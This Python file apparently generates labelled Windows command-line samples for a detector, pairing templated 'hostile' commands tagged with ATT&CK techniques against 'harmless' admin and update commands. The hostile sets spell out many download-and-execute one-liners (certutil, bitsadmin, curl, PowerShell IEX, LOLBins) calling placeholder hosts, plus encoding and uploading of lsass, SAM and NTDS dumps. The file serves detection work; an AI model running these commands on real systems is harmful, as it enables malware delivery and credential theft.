"""What fetches files: strangers' tools onto a machine, and everybody's downloads."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("tool-fetched-with-certutil", "Command and Control", "T1105", r"""
certutil -urlcache -f @url@/~n~.exe ~f~.exe
certutil.exe /urlcache /f /split http://@pub@/~n~.«png|txt|jpg|log» ~f~.«dll|exe|ps1»
certutil -split -urlcache -f http://@any@:«8000|8080|9090»/«nc|mimi|chisel|sharp|rev|shell|winPEASx64|agent».exe «C:\Users\Public\nc.exe|~f~.exe»
certutil -verifyctl -f -split @url@/~n~.dll
certutil.exe -URLCACHE * delete & certutil -urlcache -split -f https://«transfer.sh|file.io|0x0.st|temp.sh»/@word@/~n~.zip ~f~.zip
C:\Windows\SysWOW64\certutil.exe -urlcache -split -f @url@ ~f~.bat && ~f~.bat
cmd.exe /c "certutil -urlcache -f http://@pub@/~n~.hta %TEMP%\~n~.hta && mshta %TEMP%\~n~.hta"
"certutil" "-urlcache" "-split" "-f" "@url@/~n~.ps1" "~f~.ps1"
certutil -URL -f http://@pub@/~n~.cab
""")
hostile("program-text-decoded-with-certutil", "Suspicious Script", "T1140", r"""
certutil -decode ~f~.«txt|b64|crt|cer|pem|log|tmp|jpg» ~f~.«exe|dll|js|vbs|ps1|hta»
certutil.exe -f -decode "C:\Users\@user@\Downloads\~n~.txt" "%APPDATA%\~n~.exe"
certutil -decodehex ~f~.hex ~f~.exe 12
certutil /decodehex -f ~f~.txt C:\ProgramData\~n~.dll
cmd /c certutil -decode %TEMP%\~n~.b64 %TEMP%\~n~.exe & start %TEMP%\~n~.exe
certutil -decode ~f~.tmp ~f~.vbs && wscript //b ~f~.vbs
copy /b C:\Windows\System32\certutil.exe %TEMP%\~n~.tmp.exe & %TEMP%\~n~.tmp.exe -decode ~f~.txt ~f~.exe
powershell -c "[IO.File]::WriteAllBytes('~f~.exe',[Convert]::FromBase64String((gc '~f~.txt')))"
powershell -nop -c "$b=[Convert]::FromBase64String((Get-Content ~f~.log -Raw));[IO.File]::WriteAllBytes(\"$env:TEMP\~n~.dll\",$b);rundll32 $env:TEMP\~n~.dll,#1"
""")
hostile("stolen-files-packed-as-text", "Suspicious Script", "T1027 T1560.001", r"""
certutil -encode ~d~«lsass|ntds|sam|loot|data».«dmp|dit|zip|7z» ~f~.txt
certutil.exe -f -encode ~f~.exe ~f~.«crt|b64|txt»
certutil -encodehex -f ~d~lsass.dmp ~f~.txt 0x40000001
powershell -c "[Convert]::ToBase64String([IO.File]::ReadAllBytes('~d~loot.zip')) | Out-File ~f~.txt"
makecab ~d~«sam.save|lsass.dmp|ntds.dit» ~f~.cab
compact /c ~d~ntds.dit & certutil -encode ~d~ntds.dit ~f~.crt
powershell Compress-Archive -Path ~d~lsass.dmp,~d~system.hiv -DestinationPath ~f~.zip
certutil -encode C:\Windows\Temp\ntds.zip \\@ip@\c$\Windows\Temp\~n~.log
""")
hostile("transfer-jobs-of-strangers", "Command and Control", "T1197 T1105", r"""
bitsadmin /transfer ~n~ /download /priority FOREGROUND @url@/~n~.exe ~f~.exe
bitsadmin.exe /transfer myDownloadJob http://@pub@/~n~.«dll|ps1|bat|hta» C:\Users\Public\~n~.«dll|ps1|bat|hta»
bitsadmin /create /download ~n~ & bitsadmin /addfile ~n~ @url@ ~f~.exe & bitsadmin /setnotifycmdline ~n~ ~f~.exe NUL & bitsadmin /resume ~n~
bitsadmin /setnotifycmdline ~n~ «cmd.exe|regsvr32.exe|rundll32.exe|powershell.exe» "«/c ~f~.bat|/s ~f~.dll|~f~.dll,Start|-w hidden -f ~f~.ps1»"
powershell Start-BitsTransfer -Source @url@/~n~.exe -Destination $env:TEMP\~n~.exe; Start-Process $env:TEMP\~n~.exe
powershell -w hidden -c "Import-Module BitsTransfer; Start-BitsTransfer http://@pub@:8080/~n~.txt ~f~.ps1 -Asynchronous"
bitsadmin /transfer n https://«cdn.discordapp.com/attachments|raw.githubusercontent.com/@word@/x/main|transfer.sh/@word@»/~n~.exe %cd%\~n~.exe
bitsadmin /transfer up /upload http://@pub@/~n~.7z ~d~data.7z
""")
hostile("curl-fetches-and-starts", "Command and Control", "T1105 T1059.003", r"""
curl -s @url@/~n~.bat -o %TEMP%\~n~.bat && %TEMP%\~n~.bat
curl.exe -k -L "https://@pub@/~n~.exe" --output ~f~.exe & start "" ~f~.exe
cmd /c curl http://@pub@:«8080|8000»/~n~.ps1 | powershell -
curl --silent --insecure -A "Mozilla/5.0" @url@ -o ~f~.dll & rundll32 ~f~.dll,«Start|DllRegisterServer|#1»
C:\Windows\System32\curl.exe -o C:\Users\Public\~n~.vbs @url@/~n~.txt
cmd.exe /c start /min cmd /c "curl @url@ | cmd"
wget.exe -q -O ~f~.exe @url@
powershell wget @url@/~n~.exe -O ~f~.exe; ~f~.exe
powershell -ep bypass curl.exe -sL @url@ -o $env:APPDATA\~n~.exe; saps $env:APPDATA\~n~.exe
cmd /k curl -sSL https://«gist.githubusercontent.com/@word@|paste.ee/r|rentry.co»/@hex@/raw | cmd && exit
""")
hostile("downloads-by-programs-not-made-for-it", "Command and Control", "T1105", r"""
desktopimgdownldr.exe /lockscreenurl:@url@ /eventName:randomname
"C:\Program Files\Windows Defender\MpCmdRun.exe" -DownloadFile -url @url@/~n~.exe -path ~f~.exe
certoc.exe -GetCACAPS @url@/~n~.ps1
certreq -Post -config @url@ C:\Windows\win.ini ~f~.txt
CertReq.exe -Post -config http://@pub@/~n~ C:\Windows\Temp\lsass.zip ~f~.log
cmdl32 /vpn /lan ~f~.txt
esentutl.exe /y \\@pub@\webdav\~n~.exe /d ~f~.exe /o
expand.exe \\@pub@\webdav\~n~.bat ~f~.bat
extrac32.exe /Y /C \\@pub@\s\~n~.exe ~f~.exe
findstr /V /L W3AllLov3LolBas \\@pub@\webdav\~n~.exe > ~f~.exe
finger ~n~@@pub@ | more +2 | cmd
ieexec.exe @url@/~n~.exe
imewdbld.exe @url@/~n~.exe
makecab \\@pub@\webdav\~n~.exe ~f~.cab
print /D:~f~.exe \\@pub@\webdav\~n~.exe
replace.exe \\@pub@\webdav\~n~.exe C:\Windows\Temp /A
"C:\Program Files\Microsoft Office\root\Office16\«WINWORD|EXCEL|POWERPNT|MSPUB|PROTOCOLHANDLER».EXE" @url@/~n~.exe
tar -xf \\@pub@\webdav\~n~.tar -C ~d~
"C:\Users\@user@\AppData\Local\Microsoft\Teams\update.exe" --download @url@
winget.exe install --manifest ~f~.yml
wsl.exe --exec bash -c 'curl @url@ -o /mnt/c/Windows/Temp/~n~.exe'
AppInstaller.exe ms-appinstaller://?source=@url@/~n~.msix
ftp -s:~f~.txt @pub@
tftp -i @pub@ get ~n~.exe ~f~.exe
@@ T1218.005 T1105
mshta.exe @url@/~n~.exe
@@ T1218 T1105
hh.exe http://@pub@/~n~.«ps1|chm|exe»
PresentationHost.exe @url@/~n~.exe
xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z@url@
""", weight=1.5)
hostile("powershell-fetches-programs", "Suspicious Script", "T1059.001 T1105", r"""
powershell -w hidden -c "iwr -uri @url@/~n~.exe -outfile ~f~.exe; start ~f~.exe"
powershell (New-Object System.Net.WebClient).DownloadFile('@url@/~n~.exe',"$env:TEMP\~n~.exe");Start-Process "$env:TEMP\~n~.exe"
powershell.exe -NoP -NonI -Exec Bypass "Invoke-RestMethod @url@ | Invoke-Expression"
powershell -c "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','@url@',$false);$h.send();iex $h.responseText"
powershell "IEX([Net.WebClient]::new().DownloadString('http://@pub@/~n~.ps1'))"
powershell -ExecutionPolicy Bypass -c "$wc=[System.Net.HttpWebRequest]::Create('@url@');$r=$wc.GetResponse();iex([IO.StreamReader]($r.GetResponseStream())).ReadToEnd()"
powershell . (nslookup -q=txt @word@.@word@.«com|xyz|top» 8.8.8.8)[-1]
powershell -w 1 "& ([scriptblock]::Create((irm @url@)))"
powershell -nol -w hidden -c "$d='~f~.zip';(New-Object Net.WebClient).DownloadFile('@url@',$d);Expand-Archive $d $env:APPDATA\~n~ -Force;saps $env:APPDATA\~n~\client32.exe"
pwsh -nop -c "[Net.ServicePointManager]::ServerCertificateValidationCallback={$true};iex(iwr https://@pub@/~n~ -UseBasicParsing).Content"
powershell -Command "Add-Type -AssemblyName System.Web;$u='@url@';Invoke-WebRequest $u -OutFile C:\Users\Public\~n~.msi;msiexec /i C:\Users\Public\~n~.msi /qn"
powershell -windowstyle minimized $ProgressPreference='SilentlyContinue';iwr '@url@' -o ~f~.exe;Unblock-File ~f~.exe;~f~.exe
""")

harmless("certificates-and-hashes-by-admins", "Administration", r"""
certutil -urlcache * delete
certutil -urlcache crl delete
certutil.exe -URL http://pki.@fqdn@/CertEnroll/@company@-CA.crl
certutil -verify -urlfetch C:\Certs\@host@.cer
certutil -f -urlfetch -verify C:\Temp\webserver.crt
certutil -encode C:\Certs\@host@.der C:\Certs\@host@.pem
certutil -decode C:\Certs\chain.b64 C:\Certs\chain.p7b
certutil.exe -f -decode "C:\Users\@user@\Desktop\request.txt" "C:\Users\@user@\Desktop\request.cer"
certutil -hashfile "C:\Users\@user@\Downloads\«rufus-4.5|ubuntu-24.04|putty-64bit|veeam_agent|npp.8.6.Installer|win11_23H2».«exe|iso|msi|zip»" «SHA256|MD5|SHA512»
certutil -generateSSTFromWU \\~s~\certs\roots.sst
certutil -syncWithWU \\~s~\pki
certutil -addstore -enterprise Root \\@dc@\netlogon\@company@-root.cer
certutil -p @pw@ -importPFX C:\Certs\wildcard.@fqdn@.pfx NoExport
certutil -dump C:\Certs\old.crl
certutil -setreg CA\ValidityPeriodUnits 5
certutil -pulse
certutil -repairstore my @hex@@hex@
""")
harmless("transfer-jobs-of-deployments", "Software Update", r"""
bitsadmin /list /allusers /verbose
bitsadmin.exe /reset /allusers
bitsadmin /transfer "Adobe Reader" /download /priority normal https://ardownload3.adobe.com/pub/adobe/acrobat/win/AcrobatDC/@n@/AcroRdrDCx64.exe C:\Temp\AcroRdrDCx64.exe
bitsadmin /transfer WSUSPatch /priority foreground http://~s~.@fqdn@:8530/Content/@hex@.cab C:\Windows\Temp\patch.cab
powershell Start-BitsTransfer -Source https://download.microsoft.com/download/@guid@/«vc_redist.x64|ndp48-x86-x64-allos-enu|SSMS-Setup-ENU|WindowsTH-KB».exe -Destination C:\Install\
powershell.exe -ExecutionPolicy Bypass -Command "Start-BitsTransfer 'https://downloads.dell.com/catalog/DriverPackCatalog.cab' 'C:\Dell\DriverPackCatalog.cab'"
powershell -Command "Import-Module BitsTransfer; Start-BitsTransfer -Source \\~s~\isos\Win11_24H2.iso -Destination D:\ISO -Priority Low -Asynchronous"
powershell Get-BitsTransfer -AllUsers
bitsadmin /info {@guid@} /verbose
bitsadmin /util /getieproxy localsystem
powershell Get-BitsTransfer -AllUsers ^| Remove-BitsTransfer
bitsadmin /cancel "Dell Command Update"
""")
harmless("curl-by-scripts-and-admins", "Administration", r"""
curl -I https://www.@fqdn@
curl.exe -fsSL https://aka.ms/«wsl2kernel|installazurecliwindows|vs/17/release/vs_buildtools.exe» -o «%TEMP%\setup.msi|vs_buildtools.exe»
curl -k https://@ip@/api/v1/status
curl -sS -X POST -H "Content-Type: application/json" -d @payload.json https://hooks.slack.com/services/T0@hex@/B0@hex@/@hex@
curl.exe -u @svc@:@pw@ -T D:\Exports\orders_@n@.csv ftp://ftp.@fqdn@/in/
curl -L -o "%TEMP%\node.msi" https://nodejs.org/dist/v20.@n@.0/node-v20.@n@.0-x64.msi && msiexec /i "%TEMP%\node.msi" /qn
curl --silent --show-error --fail https://packages.chocolatey.org/chocolatey.2.@n@.0.nupkg -o C:\ProgramData\chocolatey\choco.zip
curl -s http://localhost:«8080|9200|5000»/«health|_cluster/health|actuator/health|metrics»
curl.exe --insecure -o C:\Windows\Temp\agent.msi https://~s~.@fqdn@/«download|agents»/agent_windows.msi & msiexec /i C:\Windows\Temp\agent.msi /qn
curl https://get.rclone.org/windows -o rclone.zip
curl -F "file=@C:\Reports\report_@n@.pdf" https://portal.@fqdn@/upload.php
C:\Windows\System32\curl.exe -o C:\Scripts\hosts.txt https://intranet.@fqdn@/it/hosts.txt
curl ifconfig.me
curl wttr.in/Berlin
powershell curl.exe -sL https://raw.githubusercontent.com/«actions/runner|microsoft/winget-pkgs|ansible/ansible-documentation»/main/README.md -o README.md
""")
harmless("archives-and-copies-by-installers", "Software Update", r"""
expand.exe -F:* ~t~Windows10.0-KB50@n@@n@-x64.cab C:\Windows\Temp\~v~
expand "~t~driver.cab" -F:* "C:\Windows\Temp\drv"
extrac32.exe /Y /E "~t~data1.cab" /L "C:\Program Files\~v~"
makecab /f ~t~logs.ddf
makecab C:\Windows\Logs\CBS\CbsPersist_@year@@n@.log C:\Windows\Logs\CBS\CbsPersist_@year@@n@.cab
"C:\Windows\system32\makecab.exe" C:\Windows\Logs\DISM\dism.log C:\Windows\Temp\cab_@pid@_@n@
tar.exe -xf ~t~«node|go|python-embed|plugin».tar.gz -C C:\Tools
tar -xzf C:\actions-runner\_work\_temp\@guid@.tar.gz -C C:\actions-runner\_work\_tool
C:\Windows\System32\replace.exe \\~s~\templates\Normal.dotm "C:\Users\@user@\AppData\Roaming\Microsoft\Templates" /U
esentutl.exe /p /o C:\Windows\SoftwareDistribution\DataStore\DataStore.edb
esentutl /d C:\ProgramData\Microsoft\Search\Data\Applications\Windows\Windows.edb
esentutl /mh "D:\Exchange\DB01\DB01.edb"
print /D:\\@host@\«Zebra|Kyocera» C:\Labels\label.prn
hh.exe "C:\Program Files (x86)\~v~\help.chm"
findstr /V /I "error warning" C:\Logs\app.log
"C:\Program Files\7-Zip\7z.exe" x -y -o"C:\Program Files\~v~" "~t~package.7z"
desktopimgdownldr.exe /lockscreenurl:https://www.@fqdn@/wallpaper.jpg
"C:\Program Files\Windows Defender\MpCmdRun.exe" -SignatureUpdate -MMPC
certreq -submit -config "@dc@\@company@-CA" C:\Certs\request.req C:\Certs\cert.cer
winget.exe upgrade --all --silent --accept-source-agreements
ftp -s:C:\Scripts\upload.txt ftp.@fqdn@
""", weight=1.5)
harmless("powershell-fetches-known-software", "Software Update", r"""
powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
powershell -c "irm https://«get.scoop.sh|bun.sh/install.ps1|astral.sh/uv/install.ps1|get.pnpm.io/install.ps1» | iex"
powershell.exe -ExecutionPolicy Bypass -Command "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -Uri https://aka.ms/«downloadazcopy-v10-windows|powershell-release?tag=stable|vs/17/release/vc_redist.x64.exe» -OutFile C:\Temp\setup.exe"
powershell (New-Object Net.WebClient).DownloadFile('https://dl.google.com/chrome/install/GoogleChromeStandaloneEnterprise64.msi','C:\Temp\chrome.msi'); Start-Process msiexec -ArgumentList '/i C:\Temp\chrome.msi /qn' -Wait
powershell -NonInteractive -ExecutionPolicy Unrestricted -File C:\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10.@n@\Downloads\0\setup.ps1
powershell Invoke-WebRequest https://~s~.@fqdn@/software/«7z2301-x64.msi|npp.exe|zoom.msi» -OutFile $env:TEMP\setup.msi
powershell -nop -c "iwr -useb https://raw.githubusercontent.com/«microsoft/winget-cli|ansible/ansible|dotnet/install-scripts|lukesampson/scoop»/master/bin/install.ps1 | iex"
powershell.exe -noni -ExecutionPolicy RemoteSigned -Command "Save-Module PSWindowsUpdate -Path C:\Modules; Install-WindowsUpdate -AcceptAll"
powershell -w hidden -ExecutionPolicy Bypass -File "C:\Program Files (x86)\Microsoft Intune Management Extension\Content\DetectionScripts\@guid@_1\detect.ps1"
powershell "Invoke-RestMethod -Uri https://api.github.com/repos/«git-for-windows/git|notepad-plus-plus/notepad-plus-plus|keepassxreboot/keepassxc»/releases/latest | Select tag_name"
pwsh -NoLogo -NoProfile -Command "Install-Module Az -Force; Update-Help -ErrorAction SilentlyContinue"
powershell -Command "Expand-Archive C:\Temp\zabbix_agent.zip 'C:\Program Files\Zabbix Agent' -Force; & 'C:\Program Files\Zabbix Agent\bin\zabbix_agentd.exe' --install"
""")
